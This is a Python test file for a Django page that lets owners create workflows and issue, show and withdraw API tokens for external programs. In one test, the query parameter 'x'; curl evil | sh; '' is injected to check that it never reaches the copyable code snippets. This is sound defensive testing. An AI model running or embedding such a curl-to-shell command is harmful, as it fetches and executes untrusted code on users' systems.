"""“Connect a program”: a workflow, a token, and what to write."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from knox.models import AuthToken
from rest_framework.test import APIClient

from coaching.actions.workflows import create_workflow
from coaching.models import Workflow

SignIn = Callable[[User], Client]
AT = "/connect/"


def shown_token(html: str) -> str:
    return str(re.findall(r'id="token">([^<]+)<', html)[0])


def test_an_owner_makes_a_workflow_and_sees_it_in_the_snippets(owner: User, sign_in: SignIn) -> None:
    client = sign_in(owner)
    answer = client.post(reverse("connect-workflow"), {"name": "Invoice import"}, follow=True)
    assert answer.redirect_chain == [(f"{AT}?workflow=invoice-import", 302)]
    assert 'coach.session("invoice-import"' in answer.content.decode().replace("&quot;", '"')
    assert Workflow.objects.get().executor == "external"


@pytest.mark.parametrize("name", ["", "  ", "x" * 201])
def test_it_needs_a_name(owner: User, sign_in: SignIn, name: str) -> None:
    answer = sign_in(owner).post(reverse("connect-workflow"), {"name": name})
    assert answer.status_code == 400
    assert "Give it a name" in answer.content.decode()
    assert not Workflow.objects.exists()


def test_a_name_that_is_taken_is_said_to_be(owner: User, sign_in: SignIn, external_workflow: Workflow) -> None:
    answer = sign_in(owner).post(reverse("connect-workflow"), {"name": external_workflow.name})
    assert answer.status_code == 400
    assert "already a workflow" in answer.content.decode()


def test_only_owners_make_workflows(coach: User, sign_in: SignIn) -> None:
    client = sign_in(coach)
    assert client.post(reverse("connect-workflow"), {"name": "Mine"}).status_code == 403
    assert reverse("connect-workflow") not in client.get(AT).content.decode()


def test_a_token_is_shown_once_and_works(coach: User, sign_in: SignIn) -> None:
    client = sign_in(coach)
    answer = client.post(reverse("token-make"), {"days": "7"})
    token = shown_token(answer.content.decode())
    assert answer["Cache-Control"] == "no-store"
    program = APIClient()
    program.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    assert program.get("/api/v1/inbox/").status_code == 200
    later = client.get(AT).content.decode()
    assert token not in later
    assert AuthToken.objects.get().token_key in later


@pytest.mark.parametrize("days", ["", "0", "-1", "3651", "99999999999999999999", "ten"])
def test_days_that_are_none(coach: User, sign_in: SignIn, days: str) -> None:
    answer = sign_in(coach).post(reverse("token-make"), {"days": days})
    assert answer.status_code == 400
    assert not AuthToken.objects.exists()


def test_making_a_token_keeps_the_chosen_workflow(owner: User, sign_in: SignIn, external_workflow: Workflow) -> None:
    create_workflow(workflow_id="second", name="Second", executor="external", by=owner)
    client = sign_in(owner)
    html = client.get(f"{AT}?workflow=invoice-import").content.decode()
    action = re.findall(r'action="(/connect/tokens/\?[^"]+)"', html)[0]
    answer = client.post(action, {"days": "7"}).content.decode()
    assert shown_token(answer)
    assert '"workflow_id": "invoice-import"' in answer.replace("&quot;", '"')


def test_no_other_words_get_into_the_lines_to_copy(owner: User, sign_in: SignIn, external_workflow: Workflow) -> None:
    html = sign_in(owner).get(f"{AT}?workflow=x'; curl evil | sh; '").content.decode()
    assert "evil" not in html
    assert external_workflow.workflow_id in html


def test_withdrawn_it_opens_nothing(coach: User, sign_in: SignIn, api: Callable[[User], APIClient]) -> None:
    program = api(coach)
    digest = AuthToken.objects.get().digest
    assert program.get("/api/v1/inbox/").status_code == 200
    sign_in(coach).post(reverse("token-withdraw"), {"digest": digest})
    assert program.get("/api/v1/inbox/").status_code == 401


def test_nobody_withdraws_another_s(
    coach: User, owner: User, sign_in: SignIn, api: Callable[[User], APIClient]
) -> None:
    api(coach)
    digest = AuthToken.objects.get().digest
    answer = sign_in(owner).post(reverse("token-withdraw"), {"digest": digest})
    assert answer.status_code == 302
    assert AuthToken.objects.filter(digest=digest).exists()
    assert digest not in sign_in(owner).get(AT).content.decode()


def test_a_stranger_gets_nothing(stranger: User, sign_in: SignIn) -> None:
    client = sign_in(stranger)
    assert client.get(AT).status_code == 403
    assert client.post(reverse("token-make"), {"days": "7"}).status_code == 403
    assert not AuthToken.objects.exists()
